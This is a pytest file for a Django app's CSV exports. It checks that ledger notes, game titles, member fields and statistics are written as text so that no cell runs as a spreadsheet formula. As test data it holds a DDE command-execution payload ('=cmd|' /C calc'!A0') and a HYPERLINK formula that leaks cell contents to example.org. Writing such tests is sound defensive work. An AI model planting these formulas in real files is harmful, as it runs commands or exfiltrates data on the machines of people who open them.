"""Every CSV export is safe to open in a spreadsheet: a cell that would run as a formula is made text."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from catalogue.models import Location
from catalogue.spreadsheet import read_sheet
from ledger import services
from members.models import Member
from onsite.models import Play, Session, Visit
from tests.ledger_helpers import charge, make_site
from tests.loan_helpers import make_copy, make_game, make_member

pytestmark = pytest.mark.django_db

NOTE = "=cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://example.org/?leak="&A1;"Cliquez")'


@pytest.fixture
def desk(client, staff_user):
    client.force_login(staff_user)
    return client


def rows_of(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def test_a_ledger_note_comes_out_as_text_and_a_reversal_keeps_its_minus(desk, staff_user):
    family = make_member("M0001", "Alex Tartempion")
    entry = charge(family, "25.00", staff_user, note=NOTE)
    services.entry_reverse(entry=entry, staff=staff_user, site=make_site(), note="+1 de trop")
    year = timezone.localdate().year
    rows = rows_of(desk.get(reverse("ledger:reports") + f"?annee={year}&export=journal"))
    assert "'" + NOTE in cells(rows) and "'+1 de trop" in cells(rows)
    assert NOTE not in cells(rows)
    assert "-25,00" in cells(rows) and "25,00" in cells(rows)


def test_a_title_comes_out_of_the_catalogue_as_text_and_reads_back_as_it_was(desk):
    make_copy(make_game(TITLE), "90001")
    rows = rows_of(desk.get(reverse("catalogue:export-csv")))
    assert "'" + TITLE in cells(rows) and TITLE not in cells(rows)
    text = b"".join(desk.get(reverse("catalogue:export-csv")).streaming_content).decode()
    assert [notice.title for notice in read_sheet(text.lstrip("\ufeff")).notices] == [TITLE]


def test_a_familys_phone_and_notes_come_out_as_text(desk):
    family = make_member("M0001", "Alex Tartempion")
    Member.objects.filter(pk=family.pk).update(phone="+32 2 555 01 01", notes="@SUM(1+1)\tvoir")
    rows = rows_of(desk.get(reverse("loans:families-export-csv")))
    assert {"'+32 2 555 01 01", "'@SUM(1+1)\tvoir"} <= cells(rows)


def test_the_statistics_come_out_as_text(desk, staff_user):
    site = Location.objects.create(name="-2+3 Salle des fêtes")
    when = timezone.make_aware(datetime.datetime(2026, 3, 4, 14))
    session = Session.objects.create(
        location=site, opened_by=staff_user, opened_at=when, closed_at=when, closed_by=staff_user
    )
    Visit.objects.create(session=session, children=2, adults=1, recorded_by=staff_user)
    Play.objects.create(session=session, game=make_game(TITLE), players=3, recorded_by=staff_user)
    attendance = rows_of(desk.get(reverse("onsite:stats-export", args=["frequentation"]) + "?annee=2026"))
    plays = rows_of(desk.get(reverse("onsite:stats-export", args=["parties"]) + "?annee=2026"))
    assert "'-2+3 Salle des fêtes" in cells(attendance)
    assert "'" + TITLE in cells(plays)
